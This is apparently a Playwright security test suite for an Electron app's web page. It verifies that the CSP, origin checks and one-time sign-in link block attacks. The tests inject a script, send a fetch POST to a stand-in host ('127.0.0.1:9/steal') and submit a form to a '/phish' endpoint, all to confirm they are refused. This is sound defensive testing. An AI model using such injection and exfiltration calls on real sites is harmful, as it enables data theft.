import { expect, test } from '@playwright/test';
import { apiUrl } from './helpers';

// What the Electron shell enforces with webPreferences and handlers is pinned by electron/security tests; here the
// same policy is checked where it can run without the Electron binary: the real page, in Chromium.

test('the strict CSP stops injected inline scripts and calls to foreign hosts', async ({ page }) => {
  const response = await page.goto('/');
  expect(response?.headers()['content-security-policy']).toContain("script-src 'self'");
  await expect(page.getByRole('heading', { name: 'Жаңа өтініш қабылдау' })).toBeVisible();

  const result = await page.evaluate(async () => {
    const violations: string[] = [];
    // Violation reports are dispatched asynchronously: wait for both, not for a fixed time.
    const reported = new Promise<void>((resolve) =>
      document.addEventListener('securitypolicyviolation', (e) => {
        violations.push(e.effectiveDirective);
        if (violations.includes('script-src-elem') && violations.includes('connect-src')) resolve();
      }),
    );
    const script = document.createElement('script');
    script.textContent = 'window.__pwned = true;';
    document.body.appendChild(script);
    let foreign = 'reached';
    try {
      await fetch('http://127.0.0.1:9/steal', { method: 'POST', body: 'data' });
    } catch {
      foreign = 'blocked';
    }
    await reported;
    return { pwned: (window as unknown as { __pwned?: boolean }).__pwned ?? false, foreign, violations };
  });
  expect(result.pwned).toBe(false);
  expect(result.foreign).toBe('blocked');
  expect(result.violations).toEqual(expect.arrayContaining(['script-src-elem', 'connect-src']));
});

test('a page on another origin cannot call the host services', async ({ page, baseURL }) => {
  await page.goto(`${apiUrl()}/healthz`);
  const outcome = await page.evaluate(async (host) => {
    try {
      const res = await fetch(`${host}__host/app.info`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' });
      return `status ${res.status}`;
    } catch {
      return 'blocked';
    }
  }, baseURL!);
  expect(outcome).toBe('blocked');
  // Even a "simple" request the browser sends without reading the answer is refused by the host's Origin check.
  const direct = await page.request.post(`${baseURL}__host/app.info`, { headers: { origin: apiUrl(), 'content-type': 'application/json' }, data: {} });
  expect(direct.status()).toBe(403);
});

test('an injected form cannot post the page away to a foreign host', async ({ page }) => {
  await page.goto('/');
  await expect(page.getByTestId('sync-status')).toBeVisible();
  const violations = await page.evaluate(async () => {
    const seen: string[] = [];
    const refused = new Promise<void>((resolve) =>
      document.addEventListener('securitypolicyviolation', (e) => {
        seen.push(e.effectiveDirective);
        if (e.effectiveDirective === 'form-action') resolve();
      }),
    );
    const form = document.createElement('form');
    form.action = 'http://127.0.0.1:9/phish';
    form.method = 'post';
    document.body.appendChild(form);
    form.submit();
    await refused;
    return seen;
  });
  expect(violations).toContain('form-action');
  expect(await page.evaluate(() => location.href)).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/$/);
  expect(await page.evaluate(() => document.querySelector('[data-testid="sync-status"]') !== null)).toBe(true);
});

test.describe('a browser that never opened the one-time sign-in link', () => {
  test.use({ storageState: { cookies: [], origins: [] } });

  test('gets the page but no host: calls are refused and the spent link does not work again', async ({ page }) => {
    await page.goto('/');
    const status = await page.evaluate(async () => {
      const res = await fetch('/__host/app.info', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' });
      return res.status;
    });
    expect(status).toBe(403);
    expect(await page.evaluate(() => document.cookie)).toBe('');
    const again = await page.goto(`/__bootstrap?code=${process.env.E2E_BOOTSTRAP_CODE}`);
    expect(again?.status()).toBe(403);
  });
});
